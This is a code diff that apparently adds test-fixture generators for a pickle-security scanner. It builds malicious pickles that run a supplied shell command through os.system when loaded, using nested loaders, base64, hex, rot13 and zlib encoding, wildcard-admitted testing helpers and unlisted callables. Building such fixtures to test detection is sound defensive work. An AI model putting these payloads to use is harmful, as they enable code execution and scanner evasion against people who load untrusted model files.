@@ -59,3 +59,136 @@ def unparseable(seed: int = 13) -> dict[str, bytes]:
     cases["truncated.pkl"] = b"\x80\x04\x95\x10" + b"\x00" * 7 + su("collections")
     cases["bad_opcode.pkl"] = b"\x80\x04" + su("os") + b"\xfe" + noise(64)
     return {f"unparseable_{name}": data for name, data in cases.items()}
+
+
+def _g(module: str, name: str) -> bytes:
+    return su(module) + su(name) + b"\x93"
+
+
+def _text(value: str) -> bytes:
+    raw = value.encode("utf-8", "surrogatepass")
+    return b"X" + len(raw).to_bytes(4, "little") + raw
+
+
+def _bytes(value: bytes) -> bytes:
+    return b"B" + len(value).to_bytes(4, "little") + value
+
+
+def _call(func: bytes, *args: bytes) -> bytes:
+    return func + b"(" + b"".join(args) + b"tR"
+
+
+def nested_loaders(command: str) -> dict[str, bytes]:
+    """Class 3: loaders (allowlisted or not) fed a hidden pickle, however it is encoded."""
+    import base64
+    import codecs
+    import zlib
+
+    inner = b"\x80\x04" + _g("os", "system") + su(command) + b"\x85R."
+    latin = inner.decode("latin-1")
+    io_wrap = _call(_g("io", "BytesIO"), _bytes(inner))
+    cases = {
+        "torch_load_from_bytes.pkl": _call(_g("torch.storage", "_load_from_bytes"), _bytes(inner)),
+        "torch_load.pkl": _call(_g("torch", "load"), io_wrap),
+        "torch_serialization_load.pkl": _call(_g("torch.serialization", "load"), io_wrap),
+        "numpy_load.pkl": _call(_g("numpy", "load"), io_wrap, b"N\x88"),
+        "pickle_loads_bytes.pkl": _call(_g("pickle", "loads"), _bytes(inner)),
+        "codecs_latin1.pkl": _call(
+            _g("pickle", "loads"), _call(_g("_codecs", "encode"), _text(latin), su("latin1"))
+        ),
+        "codecs_rot13.pkl": _call(
+            _g("_pickle", "loads"),
+            _call(
+                _g("_codecs", "encode"),
+                _call(_g("_codecs", "encode"), _text(codecs.encode(latin, "rot13")), su("rot13")),
+                su("latin1"),
+            ),
+        ),
+        "codecs_base64.pkl": _call(
+            _g("pickle", "loads"),
+            _call(_g("_codecs", "decode"), _text(base64.b64encode(inner).decode()), su("base64")),
+        ),
+        "codecs_hex.pkl": _call(
+            _g("dill", "loads"), _call(_g("_codecs", "decode"), _text(inner.hex()), su("hex"))
+        ),
+        "bytes_fromhex.pkl": _call(
+            _g("pickle", "loads"), _call(_g("builtins", "bytes.fromhex"), _text(inner.hex()))
+        ),
+        "b64decode.pkl": _call(
+            _g("cloudpickle", "loads"),
+            _call(_g("base64", "b64decode"), _text(base64.b64encode(inner).decode())),
+        ),
+        "zlib.pkl": _call(
+            _g("pickle", "loads"), _call(_g("zlib", "decompress"), _bytes(zlib.compress(inner)))
+        ),
+        "joblib_load.pkl": _call(_g("joblib", "load"), io_wrap),
+    }
+    return {f"loader_{name}": b"\x80\x04" + data + b"." for name, data in cases.items()}
+
+
+def wildcard_admitted(command: str) -> dict[str, bytes]:
+    """Class 4: dangerous helpers reached through namespaces an allowlist admits by wildcard."""
+    cases = {
+        "sklearn_testing.pkl": _call(
+            _g("sklearn.utils._testing", "assert_run_python_script_without_output"),
+            su(f"import os; os.system({command!r})"),
+        ),
+        "scipy_partial.pkl": _call(
+            _call(_g("scipy.spatial.distance", "partial"), _g("builtins", "print"), su(command))
+        ),
+        "scipy_moduletype.pkl": _call(
+            _g("scipy.spatial.transform._rotation", "ModuleType"), su("payload")
+        ),
+        "numpy_testing.pkl": _call(
+            _g("numpy.testing._private.utils", "runstring"),
+            su(f"__import__('os').system({command!r})"),
+            b"}",
+        ),
+        "torch_testing.pkl": _call(
+            _g("torch.testing._internal.common_utils", "shell"), su(command)
+        ),
+        "test_support.pkl": _call(
+            _g("test.support.script_helper", "assert_python_ok"), su("-c"), su(command)
+        ),
+        "pandas_testing.pkl": _call(_g("pandas._testing", "ensure_clean"), su(command)),
+    }  # fmt: skip
+    return {f"wildcard_{name}": b"\x80\x04" + data + b"." for name, data in cases.items()}
+
+
+def unknown_invoked(command: str) -> dict[str, bytes]:
+    """Class 7: callables outside both lists, invoked at load time, and the peers' advisories."""
+    targets = [
+        ("torch.utils.bottleneck.__main__", "run_cprofile"),
+        ("torch.utils._config_module", "ConfigModule.load_config"),
+        ("test.support.script_helper", "run_python_until_end"),
+        ("pip", "main"),
+        ("pip._internal.cli.main", "main"),
+        ("_posixsubprocess", "fork_exec"),
+        ("code", "InteractiveInterpreter.runsource"),
+        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
+        ("torch._dynamo.guards", "GuardBuilder.get"),
+        ("torch._inductor.codecache", "compile_file"),
+        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
+        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
+        ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
+        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
+        ("doctest", "debug_script"),
+        ("ensurepip", "_run_pip"),
+        ("trace", "Trace.run"),
+        ("uuid", "_get_command_stdout"),
+        ("difflib", "restore"),
+        ("mmap", "mmap"),
+        ("select", "select"),
+        ("mylab.tools", "launch"),
+        ("thirdparty.plugins", "Loader"),
+    ]
+    cases = {
+        f"{module}.{name}.pkl": b"\x80\x04" + _call(_g(module, name), su(command)) + b"."
+        for module, name in targets
+    }
+    cases["newobj_unknown.pkl"] = b"\x80\x04" + _g("evil.pkg", "Runner") + b")\x81}b."
+    cases["build_setstate.pkl"] = (
+        b"\x80\x02" + _call(_g("copyreg", "_reconstructor"), _g("evil.pkg", "Runner"),
+                            _g("builtins", "object"), b"N") + su(command) + b"b."
+    )  # fmt: skip
+    return {f"invoked_{name}": data for name, data in cases.items()}
